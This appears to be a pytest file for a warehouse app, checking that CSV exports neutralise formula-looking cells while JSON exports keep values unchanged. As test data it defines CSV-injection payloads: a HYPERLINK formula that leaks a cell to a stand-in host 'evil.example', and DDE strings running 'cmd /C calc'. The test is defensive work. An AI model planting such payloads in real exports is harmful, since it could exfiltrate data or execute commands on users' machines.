"""CSV exports never hand a spreadsheet a live formula (OWASP CSV injection); JSON carries the values as they are.

Text cells starting with = + - @ TAB or CR get a leading apostrophe in CSV.
Numbers stay numbers: a negative quantity (-3, left by a sync conflict) is data
in a numeric column, written as the number, since a spreadsheet reads it as -3,
not as a formula.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import text

from warehouse_tui.services import masterdata as md
from warehouse_tui.services.exporting import export
from warehouse_tui.services.ledger import post

FORMULA_SKU = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
CMD_LOT = "+CMD|' /C calc'!A0"
MINUS_BIN = "-2+3+cmd|' /C calc'!A0"
AT_OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_SERIAL = "\t=1+1"
CR_CONTAINER = "\r=1+1"


@pytest.fixture
def hostile(db, actor):
    """A warehouse whose codes look like formulas, with a negative quant (a sync conflict's)."""
    with db.transaction() as s:
        bin_ = md.add_bin(s, MINUS_BIN)
        other = md.add_bin(s, "A-01")
        item = md.add_item(s, FORMULA_SKU, tracking="lot", owner_code=AT_OWNER)
        serial_item = md.add_item(s, "SN-ITEM", tracking="serial")
        lot = md.lot(s, item, CMD_LOT)
        post(s, actor, kind="receipt", item=item, qty=5, lot=lot, to_bin=bin_, doc_ref="PO-1")
        post(s, actor, kind="adjust", item=item, qty=3, lot=lot, from_bin=other, allow_negative=True, doc_ref="CONFLICT")
        post(s, actor, kind="receipt", item=serial_item, qty=1, serial="SN-PLAIN", to_bin=other,
             to_container=md.container(s, "LPN-PLAIN"))
    # Control characters cannot be typed into a code today; an older or synced database may still hold them.
    with db.transaction() as s:
        s.execute(text("UPDATE serial_units SET serial = :v"), {"v": TAB_SERIAL})
        s.execute(text("UPDATE containers SET code = :v WHERE code = 'LPN-PLAIN'"), {"v": CR_CONTAINER})
    return db


def exported(db, kind: str, fmt: str) -> str:
    out = io.StringIO()
    with db.reading() as s:
        export(s, kind, fmt, out)
    return out.getvalue()


def csv_rows(db, kind: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(exported(db, kind, "csv"))))


def test_csv_stock_export_neutralises_formula_looking_text(hostile):
    rows = csv_rows(hostile, "stock")
    by_bin = {r["bin"]: r for r in rows}
    row = by_bin["'" + MINUS_BIN]
    assert row["sku"] == "'" + FORMULA_SKU
    assert row["lot"] == "'" + CMD_LOT
    assert row["owner"] == "'" + AT_OWNER
    assert row["qty"] == "5"
    # no text cell starts a formula (qty is the numeric column)
    assert not [v for r in rows for k, v in r.items() if k != "qty" and v and v[0] in "=+-@\t\r"]


def test_csv_keeps_a_negative_quantity_a_number(hostile):
    rows = csv_rows(hostile, "stock")
    negative = next(r for r in rows if r["bin"] == "A-01" and r["sku"] == "'" + FORMULA_SKU)
    assert negative["qty"] == "-3"


def test_csv_neutralises_tab_and_cr_leading_cells(hostile):
    serials = csv_rows(hostile, "serials")
    assert [r["serial"] for r in serials] == ["'" + TAB_SERIAL]
    assert [r["container"] for r in serials] == ["'" + CR_CONTAINER]


def test_csv_ledger_export_neutralises_every_text_column(hostile):
    rows = csv_rows(hostile, "ledger")
    assert {r["sku"] for r in rows} == {"'" + FORMULA_SKU, "SN-ITEM"}
    assert {r["from_bin"] for r in rows} == {"", "A-01"}
    assert "'" + MINUS_BIN in {r["to_bin"] for r in rows}
    assert all(r["qty"].isdigit() for r in rows)


def test_json_export_carries_the_values_unchanged(hostile):
    stock = json.loads(exported(hostile, "stock", "json"))
    assert {(r["sku"], r["bin"], r["lot"], r["owner"], r["qty"]) for r in stock} == {
        (FORMULA_SKU, MINUS_BIN, CMD_LOT, AT_OWNER, 5), (FORMULA_SKU, "A-01", CMD_LOT, AT_OWNER, -3),
        ("SN-ITEM", "A-01", None, "MAIN", 1)}
    serials = json.loads(exported(hostile, "serials", "json"))
    assert [(r["serial"], r["container"]) for r in serials] == [(TAB_SERIAL, CR_CONTAINER)]
